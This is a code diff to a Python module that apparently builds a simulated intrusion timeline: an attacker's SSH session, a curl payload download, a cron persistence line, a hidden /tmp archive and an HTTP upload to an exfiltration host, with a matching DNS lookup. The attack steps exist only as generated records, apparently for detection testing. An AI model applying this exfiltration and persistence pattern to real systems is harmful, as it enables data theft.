@@ -33,6 +33,8 @@ __all__ = [
     "GATEWAY",
     "PAYLOAD_HOST",
     "SRV01",
+    "SSH_AUTH_DELAY",
+    "SSH_LOGOUT_AFTER",
     "START",
     "STEPS",
     "WS01",
@@ -109,6 +111,11 @@ ARCHIVE_PATH = "/tmp/.cache.tgz"
 EXFIL_URL = f"http://{EXFIL.names[0]}/upload"
 DATA_DIR = "/srv/data"
 CRON_LINE = f"*/10 * * * * {TOOL_PATH} >/dev/null 2>&1"
+#: The attacker's SSH session (S11, whose time is WS01's SYN): sshd logs "Accepted password"
+#: this long after the SYN (key exchange, then the password typed at the prompt) ...
+SSH_AUTH_DELAY = timedelta(seconds=3, milliseconds=412)
+#: ... and the session ends (ssh.exe disconnects and exits) this long after S16.
+SSH_LOGOUT_AFTER = timedelta(seconds=5)
 
 
 def rng(seed: int, part: str) -> random.Random:
@@ -151,7 +158,7 @@ class Connection:
 
 @dataclass(frozen=True, slots=True)
 class Lookup:
-    """One DNS query and its answer, seen by Sysmon 22 on the host and on the wire."""
+    """One DNS query and its answer, seen on the wire (and by Sysmon 22 when WS01 asks)."""
 
     time: datetime
     client: str
@@ -251,6 +258,7 @@ def attack(seed: int = 1) -> Attack:
     plan.connections.append(
         Connection(s("S11").time, WS01.ip, r.randint(50000, 51000), SRV01.ip, 22, "C:\\Windows\\System32\\OpenSSH\\ssh.exe", "S11", "ssh")
     )  # fmt: skip
+    # S12's curl names the tool server by address: no look-up.
     plan.connections.append(
         Connection(
             s("S12").time, SRV01.ip, r.randint(40000, 60000), PAYLOAD_HOST.ip, 80, "/usr/bin/curl", "S12", "http",
@@ -266,6 +274,12 @@ def attack(seed: int = 1) -> Attack:
             _http_post("/upload", EXFIL.names[0], "curl/7.81.0", archive),
             _http_ok(b'{"status":"ok"}', "application/json", s("S15").time),
         )
+    )  # fmt: skip
+    # S15's curl resolves the exfiltration host through DC01 just before it connects (drawn
+    # last, so the earlier ports and jitter do not depend on it).
+    lead = timedelta(milliseconds=r.randint(120, 260))
+    plan.lookups.append(
+        Lookup(s("S15").time - lead, SRV01.ip, r.randint(32768, 60999), EXFIL.names[0], EXFIL.ip, "/usr/bin/curl", "S15")
     )  # fmt: skip
     return plan
 
